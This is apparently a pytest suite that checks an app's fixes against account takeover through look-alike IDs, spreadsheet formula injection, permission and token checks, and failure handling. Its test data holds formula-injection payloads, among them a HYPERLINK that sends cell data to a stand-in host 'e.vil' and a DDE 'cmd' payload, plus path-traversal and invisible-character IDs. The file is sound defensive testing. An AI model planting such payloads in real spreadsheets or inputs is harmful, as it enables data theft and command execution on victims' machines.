"""Attacks a hostile colleague would try, one test per hole of issue 12, each against the real
thing: a SQLite file and a real PostgreSQL (tests/store_pg.py) where storage is involved, real
subprocesses for the command line and for killing a batch driver, real files and permissions.

Storage tests run twice (sqlite, postgresql); the PostgreSQL half skips with the reason when no
server can be started. Tests that need another user's permissions run that part as `nobody`
when the suite runs as root (root reads every file), and skip with the reason when they cannot.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import uuid
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from engine_steps import live_steps
from sqlalchemy import select, update

from coach.i18n import t
from coach.readings import Event
from coach.store import AccessDenied, LoginFailed, Scope, SessionWriter, StoreError, access
from coach.store.schema import events, people, sessions

pytest_plugins = ("store_pg",)

ROOT = Path(__file__).resolve().parents[1]
TESTS = Path(__file__).resolve().parent
TODAY = date.today()
PASSWORDS = {"boss": "boss-secret-1", "sup1": "sup1-secret-1", "sup2": "sup2-secret-1", "st1": "st1-secret-1",
             "st2": "st2-secret-1", "b1": "b1-secret-pw"}


pytestmark = pytest.mark.usefixtures("cheap_hashing")  # conftest.py


@pytest.fixture
def branch(store):
    """An admin `boss`, supervisors of teams A and B, staff in each."""
    access.create_first_admin(store, "boss", "Boss", PASSWORDS["boss"])
    admin = _login(store, "boss")
    for staff_id, role, team in (("sup1", "supervisor", "A"), ("sup2", "supervisor", "B"),
                                 ("st1", "staff", "A"), ("st2", "staff", "A"), ("b1", "staff", "B")):
        access.add_person(store, admin, staff_id, staff_id.upper(), role, team, password=PASSWORDS[staff_id])
    return store


def _login(store, staff_id: str):
    return access.login(store, staff_id, PASSWORDS[staff_id])


def _person(store, staff_id: str):
    with store.reading() as conn:
        return conn.execute(select(people).where(people.c.staff_id == staff_id)).first()


# Run as root, the suite drops to `nobody` after loading what the command needs (root reads every file).
_AS_NOBODY = (
    "import importlib, os, pkgutil, sys, unicodedata, encodings.idna\n"
    "import av, cv2, numpy, coach\n"
    "for module in pkgutil.walk_packages(coach.__path__, 'coach.'):\n"
    "    if not module.name.startswith(('coach.panel', 'coach.bench')):\n"
    "        importlib.import_module(module.name)\n"
    "from coach.__main__ import main\n"
    "os.setgid(65534); os.setuid(65534)\n"
    "sys.exit(main(sys.argv[1:]))\n"
)


def _coach(*args: str, env: dict | None = None, stdin: str = "", as_nobody: bool = False,
           timeout: float = 120):
    """`python -m coach …` in a fresh process, English messages; `as_nobody`: as uid 65534."""
    command = [sys.executable, "-m", "coach", *args]
    if as_nobody:
        command = [sys.executable, "-c", _AS_NOBODY, *args]
    full_env = {**os.environ, "COACH_LANG": "en", "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run(command, input=stdin, capture_output=True, text=True, cwd=ROOT, env=full_env,
                          timeout=timeout)


def _one_line(stderr: str) -> str:
    lines = [line for line in stderr.strip().splitlines() if line.strip()]
    assert len(lines) == 1, f"expected one line, got: {stderr!r}"
    assert "Traceback" not in stderr
    return lines[0]


# ---- 1. a spaced, upper-case or full-width id cannot take over another person ------------------
@pytest.mark.parametrize("alias", [" boss ", "BOSS", "ｂｏｓｓ", "boss\t"])
def test_a_supervisor_cannot_take_over_the_admin_with_a_look_alike_id(branch, alias):
    sup = _login(branch, "sup1")
    before = _person(branch, "boss")
    with pytest.raises(AccessDenied):
        access.add_person(branch, sup, alias, "Mallory", "staff", "A", password="mallory-pw-1")
    after = _person(branch, "boss")
    assert (after.role, after.team, after.password_hash) == ("admin", None, before.password_hash)
    assert _login(branch, "boss")  # the real admin's password still works
    with pytest.raises(LoginFailed):
        access.login(branch, "boss", "mallory-pw-1")


def test_a_supervisor_cannot_move_another_teams_staff_into_their_own(branch):
    sup = _login(branch, "sup1")
    for alias in (" b1", "B1", "ｂ１"):
        with pytest.raises(AccessDenied):
            access.add_person(branch, sup, alias, "Moved", "staff", "A")
    assert _person(branch, "b1").team == "B"


def test_every_entry_point_uses_the_canonical_id(branch):
    admin = _login(branch, "boss")
    assert access.login(branch, " ST1 ", PASSWORDS["st1"]).staff_id == "st1"
    assert Scope.person(" ｓｔ１ ").value == "st1" and Scope.team("  A ").value == "A"
    for bad in ("st\u200b1", "=cmd", "a b", "", "x" * 65, "../etc"):
        with pytest.raises(StoreError) as refused:
            access.add_person(branch, admin, bad, "Name", "staff", "A")
        assert refused.value.key == "security.bad_id"
    for bad_team in ("=HYPERLINK(1)", "@A", "-A", "A\u202e"):
        with pytest.raises(StoreError) as refused:
            access.add_person(branch, admin, "new1", "Name", "staff", bad_team)
        assert refused.value.key == "security.bad_team"
    with pytest.raises(StoreError) as refused:
        access.add_person(branch, admin, "new1", "Na\u200bme", "staff", "A")
    assert refused.value.key == "security.bad_name"


def test_the_takeover_from_the_command_line_is_one_line_and_changes_nothing(tmp_path):
    url = f"sqlite:///{tmp_path / 'coach.db'}"
    assert _coach("admin", "init", "--id", "boss", "--name", "Boss", "--password-stdin", "--db", url,
                  stdin="boss-secret-1\n").returncode == 0
    assert _coach("admin", "add", "--as", "boss", "--id", "sup1", "--name", "Sup", "--role", "supervisor",
                  "--team", "A", "--set-password", "--password-stdin", "--db", url,
                  stdin="boss-secret-1\nsup1-secret-1\n").returncode == 0
    attack = _coach("admin", "add", "--as", "sup1", "--id", " boss ", "--name", "Mallory", "--role", "staff",
                    "--team", "A", "--set-password", "--password-stdin", "--db", url,
                    stdin="sup1-secret-1\nmallory-pw-1\n")
    assert attack.returncode == 2
    assert _one_line(attack.stderr) == f"Error: {t('store.access.cannot_manage_people', 'en')}"
    again = _coach("admin", "init", "--id", "eve", "--name", "Eve", "--password-stdin", "--db", url,
                   stdin="eve-secret-12\n")
    assert again.returncode == 2 and t("store.access.admin_exists", "en") in _one_line(again.stderr)


# ---- 1b. the last admin stays; admin init runs once in a database's life ------------------------
def test_the_last_active_admin_cannot_be_demoted_or_deactivated(branch):
    admin = _login(branch, "boss")
    with pytest.raises(AccessDenied) as demoted:
        access.add_person(branch, admin, "boss", "Boss", "staff", "A")
    assert demoted.value.key == "security.last_admin"
    with pytest.raises(AccessDenied):
        access.set_active(branch, admin, "BOSS", False)
    assert (_person(branch, "boss").role, _person(branch, "boss").active) == ("admin", True)
    access.add_person(branch, admin, "boss2", "Second", "admin", password="boss2-secret")
    access.set_active(branch, admin, "boss", False)  # with another admin, it is allowed
    assert not _person(branch, "boss").active


def test_admin_init_is_refused_once_any_admin_has_ever_existed(store):
    access.create_first_admin(store, "boss", "Boss", "boss-secret-1")
    with store.writing() as conn:  # however the admin disappeared (an old bug, a hand-edited row)
        conn.execute(update(people).where(people.c.staff_id == "boss").values(active=False, role="staff",
                                                                              team="A"))
    with pytest.raises(AccessDenied) as refused:
        access.create_first_admin(store, "eve", "Eve", "eve-secret-12")
    assert refused.value.key == "store.access.admin_exists"
    assert access.has_admin(store)


# ---- 2. formula injection in exports ----------------------------------------------------------
PAYLOADS = ['=HYPERLINK("http://e.vil/"&B2,"x")', "+cmd", "-2+3", "@SUM(1)"]


def test_export_cells_cannot_hold_formulas_and_numbers_stay_numbers(branch):
    from openpyxl import load_workbook

    from coach.store.exports import export_bytes

    admin = _login(branch, "boss")
    for i, payload in enumerate(PAYLOADS):
        access.add_person(branch, admin, f"x{i}", payload, "staff", "A")
        with SessionWriter(branch, f"x{i}") as writer:
            for step in live_steps(3.0, 5.0, seed=i):
                writer.add(step)
    start, end = TODAY - timedelta(days=1), TODAY + timedelta(days=1)
    _, _, data = export_bytes(branch, admin, Scope.team("A"), start, end, "csv", lang="en")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    assert names >= {"'" + payload for payload in PAYLOADS}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    _, _, data = export_bytes(branch, admin, Scope.team("A"), start, end, "xlsx", lang="en")
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cells"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + payload for payload in PAYLOADS} <= texts
    assert any(c.data_type == "n" and isinstance(c.value, int | float) for c in cells), "numbers stay numbers"


def test_file_names_in_batch_reports_cannot_hold_formulas(tmp_path):
    from coach.batch.report import _write_csv

    path = tmp_path / "failures.csv"
    _write_csv(path, ("file", "frames"), [{"file": "=cmd|' /C calc'!A0.mp4", "frames": -3}], "en")
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1] == ["'=cmd|' /C calc'!A0.mp4", "-3"]  # the number is left alone


# ---- 3. writing needs an identity; no back door for people ------------------------------------
def test_writing_to_the_store_needs_a_login_or_a_workstation_credential(branch, tmp_path, monkeypatch):
    from coach.batch.backends import BatchError
    from coach.batch.runner import BatchOptions, run_batch
    from coach.store import people as people_module
    from coach.store.credentials import issue_token, revoke_token, token_author, writing_author

    assert not hasattr(people_module, "ensure_person")
    monkeypatch.delenv("COACH_TOKEN", raising=False)
    monkeypatch.setenv("COACH_TOKEN_FILE", str(tmp_path / "no-token"))
    folder = tmp_path / "in" / "st1"
    folder.mkdir(parents=True)
    (folder / "clip.mp4").write_bytes(b"\0" * 64)
    with pytest.raises(BatchError) as refused:
        run_batch(tmp_path / "in", tmp_path / "out", BatchOptions(store_url=branch.url))
    assert str(refused.value) == t("security.need_identity")
    admin = _login(branch, "boss")
    with pytest.raises(AccessDenied):
        issue_token(branch, _login(branch, "sup1"), "counter-9")
    token = issue_token(branch, admin, "Counter-3")
    author = token_author(branch, token)
    assert author.label == "token:counter-3"
    with pytest.raises(StoreError) as unknown:  # no person is created on the fly, whatever the payload
        author.check_may_record(branch, '=HYPERLINK("http://e.vil")')
    assert unknown.value.key == "security.bad_id"
    with pytest.raises(StoreError) as missing:
        author.check_may_record(branch, "ghost")
    assert missing.value.key == "security.unknown_person"
    assert author.check_may_record(branch, " ST1 ") == "st1"
    monkeypatch.setenv("COACH_TOKEN", token)
    assert writing_author(branch).label == "token:counter-3"
    revoke_token(branch, admin, "counter-3")
    with pytest.raises(AccessDenied) as revoked:
        writing_author(branch)
    assert revoked.value.key == "security.bad_token"
    staff = writing_author(branch, _login(branch, "st1"))
    assert staff.check_may_record(branch, "st1") == "st1"
    with pytest.raises(AccessDenied):
        staff.check_may_record(branch, "st2")
    supervisor = writing_author(branch, _login(branch, "sup1"))
    assert supervisor.check_may_record(branch, "st2") == "st2"
    with pytest.raises(AccessDenied):
        supervisor.check_may_record(branch, "b1")


def test_a_token_file_others_may_read_is_refused(tmp_path, monkeypatch):
    from coach.store.credentials import workstation_token

    monkeypatch.delenv("COACH_TOKEN", raising=False)
    path = tmp_path / "workstation.token"
    path.write_text("cw_secret\n")
    monkeypatch.setenv("COACH_TOKEN_FILE", str(path))
    os.chmod(path, 0o644)
    with pytest.raises(StoreError) as refused:
        workstation_token()
    assert refused.value.key == "security.token_file_open"
    os.chmod(path, 0o600)
    assert workstation_token() == "cw_secret"


# ---- 4. one person's session is never overwritten by another's ---------------------------------
def _outcome(rel: str, mtime_ns: int):
    from coach.batch.plan import MediaFile
    from coach.batch.work import FileOutcome

    steps = list(live_steps(5.0, 5.0))
    return FileOutcome(MediaFile("/nowhere/" + rel, rel, 1234, mtime_ns), ok=True, steps=steps)


def test_filing_a_file_under_another_person_is_refused_and_keeps_the_first(branch):
    from coach.batch.to_store import save
    from coach.store.credentials import Author

    workstation = Author("token", "batch-box")
    outcome = _outcome("c1.mp4", 1_700_000_000_000_000_000)
    save(branch, outcome, "st1", "opts", None, workstation)
    save(branch, outcome, "st1", "opts", None, workstation)  # a rerun for the same person replaces it
    with pytest.raises(StoreError) as refused:
        save(branch, outcome, "st2", "opts", None, workstation)
    assert refused.value.key == "security.session_of_other"
    assert t("security.session_of_other", "en", source="c1.mp4", owner="st1", staff_id="st2") == \
        refused.value.message("en")
    with branch.reading() as conn:
        kept = conn.execute(select(sessions.c.staff_id, sessions.c.recorded_by)).all()
    assert kept == [("st1", "token:batch-box")]


# ---- 5. private files -------------------------------------------------------------------------
@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_the_data_folder_and_database_are_private_and_loose_ones_are_tightened(tmp_path, monkeypatch, capfd):
    from coach.person import Preferences, save_preferences
    from coach.store import Store

    old_umask = os.umask(0o022)
    try:
        data = tmp_path / "home" / "coach"
        monkeypatch.setenv("COACH_DATA_DIR", str(data))
        monkeypatch.delenv("COACH_DB_URL", raising=False)
        with Store() as store:
            access.create_first_admin(store, "boss", "Boss", "boss-secret-1")
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
        for name in ("coach.db", "coach.db-wal", "coach.db-shm"):
            if (data / name).exists():
                assert stat.S_IMODE((data / name).stat().st_mode) == 0o600, name
        os.chmod(data / "coach.db", 0o644)
        os.chmod(data, 0o755)
        capfd.readouterr()
        Store().close()
        assert stat.S_IMODE((data / "coach.db").stat().st_mode) == 0o600
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
        lines = capfd.readouterr().err.strip().splitlines()
        assert lines == [t("security.tightened", path=str(data), old="755", new="700"),
                         t("security.tightened", path=str(data / "coach.db"), old="644", new="600")]
        saved = save_preferences(Preferences(person="st1"), data)
        assert stat.S_IMODE(saved.stat().st_mode) == 0o600
        assert stat.S_IMODE(saved.parent.stat().st_mode) == 0o700
    finally:
        os.umask(old_umask)


def test_database_passwords_are_never_printed(tmp_path):
    url = "postgresql://coach:s3cret-pw@127.0.0.1:notaport/coach"
    bad = _coach("admin", "info", "--db", url)
    assert bad.returncode == 2 and "s3cret-pw" not in bad.stderr + bad.stdout
    assert "***" in _one_line(bad.stderr)
    refused = _coach("admin", "info", "--db", "postgresql://coach:s3cret-pw@127.0.0.1:1/coach", timeout=60)
    assert refused.returncode == 2 and "s3cret-pw" not in refused.stderr + refused.stdout
    _one_line(refused.stderr)


# ---- 6. batch workers die with their driver ---------------------------------------------------
def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc to find the workers")
@pytest.mark.parametrize("stop", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT], ids=lambda s: s.name)
def test_stopping_the_batch_driver_leaves_no_worker(tmp_path, stop):
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("a.mp4", "b.mp4"):
        (folder / name).write_bytes(b"\0" * 64)
    pids = tmp_path / "pids"
    pids.mkdir()
    driver = (
        "import sys\n"
        f"sys.path.insert(0, {str(TESTS)!r})\n"
        "from batch_crash import sleeps_until_killed\n"
        "from coach.batch.runner import BatchOptions, run_batch\n"
        "from coach.lifeline import stop_on_sigterm\n"
        "stop_on_sigterm()\n"
        f"run_batch({str(folder)!r}, {str(tmp_path / 'out')!r}, BatchOptions(jobs=2),\n"
        "          worker=sleeps_until_killed)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COACH_TEST_PID_DIR": str(pids)}
    process = subprocess.Popen([sys.executable, "-c", driver], cwd=ROOT, env=env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while len(list(pids.iterdir())) < 2 and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.2)
        workers = [int(p.read_text()) for p in pids.iterdir()]
        assert len(workers) == 2, "both workers started"
        assert all(_alive(pid) for pid in workers)
        process.send_signal(stop)
        process.wait(timeout=60)
        deadline = time.monotonic() + 15
        while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
            time.sleep(0.2)
        left = [pid for pid in workers if _alive(pid)]
        assert not left, f"workers left running after {stop.name} of the driver: {left}"
    finally:
        if process.poll() is None:
            process.kill()
        for path in pids.iterdir():
            pid = int(path.read_text())
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)


# ---- 7. one translated line, never a traceback -------------------------------------------------
@pytest.fixture
def shared_tmp():
    """A folder under /tmp that another account can enter (pytest's own is private to root)."""
    folder = Path(tempfile.mkdtemp(prefix="coach-attack-", dir="/tmp"))
    os.chmod(folder, 0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize("name", ["photo.png", "clip.mp4"])
def test_an_unreadable_input_says_so_not_corrupt(shared_tmp, name):
    import cv2
    from skimage import data

    source = shared_tmp / name
    if name.endswith(".png"):
        cv2.imwrite(str(source), data.astronaut()[:, :, ::-1])
    else:
        shutil.copy(next((ROOT / "sample_videos").glob("*.mp4")), source)
    os.chmod(source, 0o000)
    out = shared_tmp / "out"
    out.mkdir()
    os.chmod(out, 0o777)
    done = _coach("review", str(source), "-o", str(out), as_nobody=os.geteuid() == 0)
    assert done.returncode == 2
    line = _one_line(done.stderr)
    assert "corrupt" not in line.lower() and "Permission denied" in line and str(source) in line


def test_an_output_folder_that_is_a_file_is_one_line(tmp_path):
    clip = next((ROOT / "sample_videos").glob("*.mp4"))
    blocker = tmp_path / "out"
    blocker.write_text("not a folder")
    done = _coach("review", str(clip), "-o", str(blocker))
    assert done.returncode == 2
    assert _one_line(done.stderr).endswith(t("security.not_a_folder", "en", path=str(blocker)))


def test_an_unwritable_export_path_is_one_line(branch, tmp_path):
    from coach.store.exports import export_file

    admin = _login(branch, "boss")
    (tmp_path / "exports").mkdir()
    blocker = tmp_path / "exports" / "file"
    blocker.write_text("x")
    with pytest.raises(StoreError) as refused:
        export_file(branch, admin, Scope.branch(), TODAY, TODAY, "csv", blocker / "report.csv")
    assert refused.value.message("en") == t("security.export_folder_is_file", "en", path=str(blocker))
    assert list((tmp_path / "exports").iterdir()) == [blocker]


def test_an_unreachable_ray_cluster_times_out_with_one_line(tmp_path):
    pytest.importorskip("ray", reason="ray is not installed (requirements-dev.txt)")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.mp4").write_bytes(b"\0" * 64)
    started = time.monotonic()
    done = _coach("review", str(folder), "-o", str(tmp_path / "out"), "--engine", "ray",
                  "--address", "127.0.0.1:1", "--ray-timeout", "1", timeout=120)
    assert done.returncode == 2 and time.monotonic() - started < 60
    line = _one_line(done.stderr)
    assert "127.0.0.1:1" in line and "--ray-timeout" in line


# ---- 8. smaller holes ---------------------------------------------------------------------------
def test_a_full_disk_leaves_no_half_row(tmp_path):
    """RLIMIT_FSIZE makes the kernel refuse writes past a size, as a full disk does."""
    script = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "from coach.sinks import SinkError, TimelineCsvSink\n"
        "from coach.store.synthetic import live_records\n"
        "sink = TimelineCsvSink(sys.argv[1])\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (5000, 5000))\n"
        "try:\n"
        "    for record in live_records(60.0, 15.0):\n"
        "        sink.write_record(record)\n"
        "except SinkError as error:\n"
        "    print(error)\n"
    )
    path = tmp_path / "timeline.csv"
    done = subprocess.run([sys.executable, "-c", script, str(path)], capture_output=True, text=True, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT), "COACH_LANG": "en"}, timeout=120)
    assert done.returncode == 0, done.stderr
    assert str(path) in done.stdout  # the one line saying the file could not be written
    content = path.read_bytes()
    assert 0 < len(content) <= 5000 and content.endswith(b"\n")
    rows = list(csv.reader(io.StringIO(content.decode())))
    assert len(rows) > 2 and len({len(row) for row in rows}) == 1


def test_a_resumed_batch_drops_a_torn_last_row(tmp_path):
    from coach.batch.report import _concatenate

    whole, torn = tmp_path / "whole.csv", tmp_path / "torn.csv"
    whole.write_bytes(b"a,b\r\n1,2\r\n3,4\r\n")
    torn.write_bytes(b"a,b\r\n5,6\r\n7,")
    _concatenate(tmp_path / "all.csv", [whole, torn], "en")
    assert (tmp_path / "all.csv").read_bytes() == b"a,b\r\n1,2\r\n3,4\r\n5,6\r\n"


def test_broken_links_and_fifos_in_a_batch_folder_go_to_failures(tmp_path):
    from coach.batch.runner import BatchOptions, run_batch

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "gone.mp4").symlink_to(tmp_path / "deleted.mp4")
    os.mkfifo(folder / "pipe.mp4")
    report = run_batch(folder, tmp_path / "out", BatchOptions(jobs=1))
    assert sorted(report.failed) == ["gone.mp4", "pipe.mp4"]
    failures = (tmp_path / "out" / "failures.csv").read_text(encoding="utf-8")
    assert "gone.mp4" in failures and "pipe.mp4" in failures


def test_an_event_open_when_the_process_stops_is_closed_at_the_last_frame_and_marked(store):
    from coach.store.writer import ENDED_EARLY

    access.create_first_admin(store, "boss", "Boss", "boss-secret-1")
    access.add_person(store, _login_as(store, "boss", "boss-secret-1"), "st1", "St", "staff", "A")
    killed = SessionWriter(store, "st1", workstation="counter-1", span_s=1)
    steps = list(live_steps(4.0, 5.0))
    for step in steps:
        killed.add(step)
    killed.add_events([Event(steps[5].record.t_s, None, "posture:hunched")])
    killed.flush(force=True)
    del killed  # the process is killed: nothing more is written
    with SessionWriter(store, "st1", workstation="counter-1", span_s=1) as next_start:
        for step in live_steps(1.0, 5.0):
            next_start.add(step)
        next_start.add_events([Event(0.1, None, "posture:slouching")])
    with store.reading() as conn:
        rows = conn.execute(select(events.c.session_id, events.c.kind, events.c.start_s, events.c.end_s,
                                   events.c.detail).order_by(events.c.session_id)).all()
        ended = conn.execute(select(sessions.c.ended_at, sessions.c.summary).order_by(sessions.c.id)).all()
    first, second = rows
    last_frame = steps[-1].record.t_s - steps[0].record.t_s
    # ended at the last frame the store holds: a kill loses at most the second in progress
    assert first.kind == "posture:hunched" and last_frame - 1.0 <= first.end_s <= last_frame
    assert ENDED_EARLY in first.detail and ENDED_EARLY in second.detail
    assert second.end_s is not None
    assert all(row.ended_at is not None for row in ended) and ended[0].summary[ENDED_EARLY] is True


def _login_as(store, staff_id, password):
    return access.login(store, staff_id, password)


def test_uploads_stream_to_a_private_file_with_a_cap():
    from coach.panel.upload_files import discard, save_upload
    from coach.panel.uploads import UploadError

    clip = next((ROOT / "sample_videos").glob("*.mp4")).read_bytes()
    upload = io.BytesIO(clip)
    upload.name = "counter.mp4"
    saved = save_upload(upload, "en")
    try:
        assert saved.path.read_bytes() == clip and saved.size == len(clip)
        assert stat.S_IMODE(saved.path.stat().st_mode) == 0o600
        assert stat.S_IMODE(saved.path.parent.stat().st_mode) == 0o700
    finally:
        discard(saved.path)
    assert not saved.path.parent.exists()
    before = set(Path(tempfile.gettempdir()).glob("coach-upload-*"))
    big = io.BytesIO(clip[:64] + b"\0" * 4096)
    big.name = "long.mp4"
    with pytest.raises(UploadError) as refused:
        save_upload(big, "en", max_mb=2048 / 2**20)
    assert "long.mp4" in str(refused.value)
    assert set(Path(tempfile.gettempdir()).glob("coach-upload-*")) == before  # nothing left behind


def test_a_lockout_answers_the_same_for_existing_and_unknown_ids(branch):
    now = datetime(2030, 1, 1, 9, 0, tzinfo=UTC)
    for _ in range(access.MAX_FAILED_LOGINS):
        with pytest.raises(LoginFailed):
            access.login(branch, "b1", "guess-guess", now=now)
    answers = []
    unknown = "nobody-" + uuid.uuid4().hex[:6]
    tries = (("b1", PASSWORDS["b1"]), ("b1", "wrong-pw-1"), (unknown, "whatever-1"), ("=bad", "whatever-1"))
    for staff_id, password in tries:
        with pytest.raises(LoginFailed) as failed:
            access.login(branch, staff_id, password, now=now)
        answers.append((failed.value.key, failed.value.message("en"), failed.value.values))
    assert len(set(map(repr, answers))) == 1


def test_a_database_from_before_gets_canonical_ids_and_its_people_still_log_in(db_url):
    """Versions 1-2 stored ids as typed; version 3 brings them (and everything pointing at them) to
    the canonical form, so "supA" logs in as "supa" and keeps their sessions."""
    from sqlalchemy import text

    from coach.store import Store
    from coach.store.migrations import current_version

    with Store(db_url) as fresh, fresh.writing() as conn:  # turn a fresh database back into version 2
        conn.execute(text("DROP TABLE workstation_tokens"))
        conn.execute(text("DROP TABLE store_facts"))
        conn.execute(text("ALTER TABLE sessions DROP COLUMN recorded_by"))
        conn.execute(text("UPDATE coach_schema SET version = 2"))
        hashed = access.hash_password("supa-secret-1")
        now = datetime.now(UTC)
        for staff_id, team in (("supA", "  Team   A "), ("Boss", None), ("bad id!", "B")):
            conn.execute(people.insert().values(
                staff_id=staff_id, display_name="X", role="admin" if staff_id == "Boss" else "supervisor",
                team=team, active=True, password_hash=hashed, failed_logins=0, created_at=now))
        conn.execute(sessions.insert().values(uuid=uuid.uuid4(), staff_id="supA", workstation="w", source="s",
                                              started_at=now, utc_offset_min=0, day=now.date(), span_s=60))
    with Store(db_url) as store:
        with store.reading() as conn:
            assert current_version(conn) == 3
            found = dict(conn.execute(select(people.c.staff_id, people.c.team)).all())
            owners = conn.execute(select(sessions.c.staff_id)).scalars().all()
        assert found == {"supa": "Team A", "boss": None, "bad id!": "B"}  # an invalid id is left for an admin
        assert owners == ["supa"]
        assert access.login(store, "supA", "supa-secret-1").staff_id == "supa"
        assert access.has_admin(store)  # the admin who existed counts: no second first-run set-up


def test_admins_issue_and_revoke_workstation_credentials_from_the_command_line(tmp_path):
    from coach.store import Store
    from coach.store.credentials import token_author

    data = tmp_path / "data"
    env = {"COACH_DATA_DIR": str(data), "COACH_DB_URL": ""}
    assert _coach("admin", "init", "--id", "boss", "--name", "Boss", "--password-stdin", env=env,
                  stdin="boss-secret-1\n").returncode == 0
    issued = _coach("admin", "token", "issue", "--name", "Counter-3", "--save", "--as", "boss",
                    "--password-stdin", env=env, stdin="boss-secret-1\n")
    assert issued.returncode == 0, issued.stderr
    token_path = data / "workstation.token"
    assert issued.stdout.strip() == t("security.token_saved", "en", name="counter-3", path=str(token_path))
    assert stat.S_IMODE(token_path.stat().st_mode) == 0o600
    with Store(f"sqlite:///{data / 'coach.db'}") as store:
        assert token_author(store, token_path.read_text().strip()).name == "counter-3"
    revoked = _coach("admin", "token", "revoke", "--name", "counter-3", "--as", "boss", "--password-stdin",
                     env=env, stdin="boss-secret-1\n")
    assert revoked.returncode == 0, revoked.stderr
    with Store(f"sqlite:///{data / 'coach.db'}") as store, pytest.raises(AccessDenied):
        token_author(store, token_path.read_text().strip())


def test_review_store_without_an_identity_or_with_a_wrong_login_is_one_line(branch, tmp_path, monkeypatch):
    if branch.dialect != "sqlite":
        pytest.skip("the command line half runs once, on the SQLite file")
    folder = tmp_path / "in" / "st1"
    folder.mkdir(parents=True)
    (folder / "clip.mp4").write_bytes(b"\0" * 64)
    env = {"COACH_TOKEN": "", "COACH_TOKEN_FILE": str(tmp_path / "none"), "COACH_DATA_DIR": str(tmp_path)}
    base = ("review", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--store", branch.url)
    anonymous = _coach(*base, env=env)
    assert anonymous.returncode == 2
    assert _one_line(anonymous.stderr).endswith(t("security.need_identity", "en"))
    wrong = _coach(*base, "--user", "st1", "--password-stdin", env=env, stdin="not-the-password\n")
    assert wrong.returncode == 2
    assert _one_line(wrong.stderr).endswith(t("store.access.login_failed", "en"))
    with branch.reading() as conn:
        assert conn.execute(select(sessions.c.id)).first() is None
